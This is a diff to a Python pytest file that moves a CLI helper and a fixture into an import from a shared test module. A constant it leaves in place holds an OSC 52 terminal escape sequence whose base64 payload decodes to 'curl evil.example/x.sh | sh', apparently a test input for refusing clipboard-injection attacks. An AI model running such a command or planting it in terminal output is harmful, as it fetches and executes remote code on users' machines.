@@ -11,26 +11,11 @@ from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
-from click.testing import CliRunner
 
-from test_ingest import ARTICLE, assert_refused, dump
-from workbench.cli import main
+from test_ingest import ARTICLE, assert_refused, dump, run, stored  # noqa: F401 (stored: a fixture)
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaCB8IHNo\x07"  # "curl evil.example/x.sh | sh"
 GOOD = {"text": "Police said 14 people were arrested on Saturday in Lyon.", "source": "Wire A"}
-
-
-def run(*args, input=None):
-    return CliRunner().invoke(main, list(args), input=input, catch_exceptions=False)
-
-
-@pytest.fixture
-def stored(tmp_path, isolated_database):
-    article = tmp_path / "strike.txt"
-    article.write_text(ARTICLE)
-    result = run("ingest", str(article), "--source", "Harbour Gazette", "--kind", "outlet", "--no-match")
-    assert result.exit_code == 0, result.output
-    return isolated_database
 
 
 def jsonl(path: Path, lines: list[str]) -> Path:
